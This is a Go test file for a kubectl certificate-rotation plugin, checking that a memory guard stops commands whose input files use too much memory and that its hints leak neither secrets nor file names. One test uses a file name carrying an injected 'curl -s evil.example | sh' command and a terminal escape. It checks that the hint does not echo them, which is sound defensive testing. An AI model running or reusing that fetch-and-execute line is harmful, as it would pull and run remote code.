package plugin

import (
	"bytes"
	"compress/gzip"
	"context"
	"errors"
	"fmt"
	"math"
	"os"
	"path/filepath"
	"runtime"
	"runtime/debug"
	"strings"
	"testing"
	"time"

	"github.com/spf13/cobra"
	"k8s.io/cli-runtime/pkg/genericiooptions"

	"github.com/kubectl-certrot/kubectl-certrot/plugin/cli"
)

// TestFilesThatTakeTooMuchMemoryEndTheCommand, with nothing printed or written but the error.
//
// Not in parallel: the limit is the process's.
func TestFilesThatTakeTooMuchMemoryEndTheCommand(t *testing.T) {
	folder := t.TempDir()
	file, out := filepath.Join(folder, "a file"), filepath.Join(folder, "out")
	var packed bytes.Buffer
	zw := gzip.NewWriter(&packed)
	_, err := fmt.Fprintf(zw, `{"apiVersion":"certrot/v1alpha2","kind":"Snapshot","nodes":[{"name":"a","via":"ssh","files":[{}%s]}]}`, strings.Repeat(",{}", 150_000))
	if err := errors.Join(err, zw.Close(), os.WriteFile(file, packed.Bytes(), 0o600)); err != nil {
		t.Fatal(err)
	}
	runtime.GC()
	heap := heapInUse()
	before := debug.SetMemoryLimit(int64(heap()) + 24<<20)
	defer func() {
		most := uint64(debug.SetMemoryLimit(before)) //nolint:gosec // it is not negative
		for range 600 {                              // what was left to end by itself is not other tests' to pay for
			if runtime.GC(); heap() < most {
				return
			}
			time.Sleep(100 * time.Millisecond)
		}
		t.Error("the commands go on")
	}()
	limit := fmt.Sprintf("%d MiB", newMemoryGuard().limit>>20)
	twice := fmt.Sprintf("%dMiB", 2*newMemoryGuard().limit>>20)
	for args, again := range map[string]string{
		"verify":             "verify FROM",
		"inspect nodes":      "inspect nodes FROM",
		"snapshot -o " + out: "snapshot FROM --output " + out,
		"snapshot -o -":      "snapshot FROM --output -",
		"fix-api-int --emit-script " + out + " --nodes a": "fix-api-int --emit-script " + out + " FROM --nodes a",
	} {
		var said, answer bytes.Buffer
		code := Main(t.Context(), "test", append([]string{"kubectl-certrot"}, append(strings.Fields(args), "--from", file)...), genericiooptions.IOStreams{In: strings.NewReader(""), Out: &answer, ErrOut: &said})
		if code != cli.ExitUsage || answer.Len() > 0 {
			t.Errorf("%s: exit code %d, printed:\n%s", args, code, answer.String())
		}
		for _, want := range []string{"error: --from " + file + ": it takes more than " + limit + " of memory", "GOMEMLIMIT=" + twice + " kubectl certrot " + strings.Replace(again, "FROM", "--from '"+file+"'", 1) + "\n"} {
			if !strings.Contains(said.String(), want) {
				t.Errorf("%s: does not say %q:\n%s", args, want, said.String())
			}
		}
		if left, err := os.ReadDir(folder); err != nil || len(left) != 1 {
			t.Errorf("%s: leaves %v, %v", args, left, err)
		}
	}
	for _, command := range []string{"__complete", "__completeNoDesc"} {
		var said, answer bytes.Buffer
		code := Main(t.Context(), "test", []string{"kubectl-certrot", command, "inspect", "--from", file, "--nodes", ""}, genericiooptions.IOStreams{In: strings.NewReader(""), Out: &answer, ErrOut: &said})
		if code != cli.ExitUsage || answer.Len() > 0 || !strings.Contains(said.String(), "it takes more than "+limit+" of memory") {
			t.Errorf("%s: exit code %d, printed:\n%s%s", command, code, answer.String(), said.String())
		}
	}
}

// TestTheLimitOfMemory is the user's, else two gigabytes.
func TestTheLimitOfMemory(t *testing.T) { // not parallel: the limit is the process's
	before := debug.SetMemoryLimit(math.MaxInt64)
	defer debug.SetMemoryLimit(before)
	if got := newMemoryGuard().limit; got != 2<<30 {
		t.Errorf("%d", got)
	}
	debug.SetMemoryLimit(5 << 30)
	if got := newMemoryGuard().limit; got != 5<<30 {
		t.Errorf("%d", got)
	}
}

// TestOnlyCommandsThatReadFilesAreGuarded: ended in between, others would leave a cluster or a node half changed.
func TestOnlyCommandsThatReadFilesAreGuarded(t *testing.T) {
	t.Parallel()
	for line, want := range map[string]bool{
		"verify --from a": true, "inspect --from a --from b": true, "snapshot --from a -o b": true, "rotate x --from a": true, "rotate status x --from a": true, "fix-api-int --from a": true,
		"verify": false, "snapshot -o b": false, "rotate x": false, "fix-api-int": false, "pretrust": false, "fix-kubeconfig": false, "undo x": false, "runs": false,
	} {
		cmd, rest, err := NewCommand(cli.App{ProgramName: "kubectl certrot"}).Find(strings.Fields(line))
		if err := errors.Join(err, cmd.ParseFlags(rest)); err != nil {
			t.Fatal(err)
		}
		if got := newMemoryGuard().guards(cmd, rest); got != want {
			t.Errorf("%s: %t", line, got)
		}
	}
}

// TestNothingIsEndedThatHasBegunToAnswer: no half of an answer is printed.
func TestNothingIsEndedThatHasBegunToAnswer(t *testing.T) {
	t.Parallel()
	why := errors.New("why")
	for _, answers := range []bool{true, false} {
		g := newMemoryGuard()
		g.limit = 100
		heap := uint64(100)
		if answers {
			if err := g.answer(); err != nil {
				t.Error(err)
			}
		}
		ended := make(chan struct{})
		asked := 0
		ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
		go func() {
			defer close(ended)
			g.watch(ctx, func() uint64 {
				if asked++; asked > 3 {
					heap = 101
				}
				return heap
			}, why)
		}()
		<-ended
		if asked != 4 || ctx.Err() != nil {
			t.Errorf("it is looked at %d times: %v", asked, ctx.Err())
		}
		cancel()
		err := g.answer()
		if answers && err != nil || !answers && !errors.Is(err, why) {
			t.Errorf("answers: %t: %v", answers, err)
		}
	}
}

// TestLookingAtMemoryTakesNone.
func TestLookingAtMemoryTakesNone(t *testing.T) { // not parallel: it counts
	heap := heapInUse()
	if n := testing.AllocsPerRun(100, func() { heap() }); n > 0 {
		t.Errorf("%.0f allocations", n)
	}
}

// BenchmarkLookingAtMemory is to take less than a hundredth of sampling.
func BenchmarkLookingAtMemory(b *testing.B) {
	heap := heapInUse()
	for b.Loop() {
		heap()
	}
}

// TestANameOfAFileIsNoCommandOfTheGuard: who wrote a file may have named it.
func TestANameOfAFileIsNoCommandOfTheGuard(t *testing.T) {
	t.Parallel()
	for _, name := range []string{"mg\ncurl -s evil.example | sh\n", "mg\x1b[2J"} {
		cmd, rest, err := NewCommand(cli.App{ProgramName: "kubectl certrot"}).Find([]string{"verify", "--from", name})
		if err := errors.Join(err, cmd.ParseFlags(rest)); err != nil {
			t.Fatal(err)
		}
		why := newMemoryGuard().why(cmd, nil)
		var hint *cli.HintError
		said := why.Error()
		if errors.As(why, &hint) {
			said += hint.Hint
		}
		if strings.ContainsAny(said, "\n\x1b") || strings.Contains(said, "kubectl certrot verify") {
			t.Errorf("%q: says %q", name, said)
		}
	}
}

// TestCompletionThatIsOverRepeatsNoWords: among those that it completes are secrets, of which no flag is parsed.
func TestCompletionThatIsOverRepeatsNoWords(t *testing.T) {
	t.Parallel()
	secret := []string{"--token", "S3CRET", "--token=S3CRET", "--password", "S3CRET", "--password=S3CRET", "--node-command", "sshpass -p S3CRET ssh {node}", "--node-command=sshpass -p S3CRET ssh {node}", "--server=https://user:S3CRET@api.example", "--proxy-url", "http://user:S3CRET@proxy.example"}
	for _, command := range []string{"__complete", "__completeNoDesc"} {
		cmd := &cobra.Command{Use: command, DisableFlagParsing: true}
		why := newMemoryGuard().why(cmd, append([]string{"inspect", "nodes", "--from", "a"}, append(secret, "")...))
		var hint *cli.HintError
		if !errors.As(why, &hint) {
			t.Fatalf("%s: no next step: %v", command, why)
		}
		said := why.Error() + hint.Hint
		if strings.Contains(said, "S3CRET") || strings.Contains(said, "kubectl") || !strings.Contains(said, "set GOMEMLIMIT=") || !strings.Contains(said, "files of --from") {
			t.Errorf("%s: says %s", command, said)
		}
	}
}
